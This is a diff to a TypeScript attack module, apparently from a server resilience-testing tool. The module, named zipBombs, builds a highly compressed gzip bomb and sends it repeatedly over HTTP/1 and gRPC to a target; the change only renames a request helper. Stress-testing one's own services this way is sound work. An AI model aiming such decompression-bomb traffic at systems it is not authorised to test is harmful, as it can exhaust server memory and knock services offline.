@@ -1,7 +1,7 @@
 import { gzipSync } from 'node:zlib';
 import type { Attack } from '../attack.ts';
 import { doubleModel } from '../attack-models.ts';
-import { jsonRequest, oneAnswer } from '../raw/http1.ts';
+import { oneAnswer, rawJsonRequest } from '../raw/http1.ts';
 import { grpcFields, Http2Attacker } from '../raw/http2.ts';
 import { envelope, inferMethod } from '../raw/infer-message.ts';
 import { inferPath } from '../raw/requests.ts';
@@ -27,7 +27,7 @@ export const zipBombs: Attack = {
   secondsMin: 8,
   run: async (target, pressure) => {
     const bomb = gzipSync(Buffer.alloc(unpackedBytes, '1'), { level: 9 });
-    const request = jsonRequest(target, inferPath(doubleModel), bomb, { 'content-encoding': 'gzip' });
+    const request = rawJsonRequest(target, inferPath(doubleModel), bomb, { 'content-encoding': 'gzip' });
     await target.again(16 * pressure, async (loop) => {
       if (loop % 2 === 0) await oneAnswer(target, request);
       else await overGrpc(target, bomb);
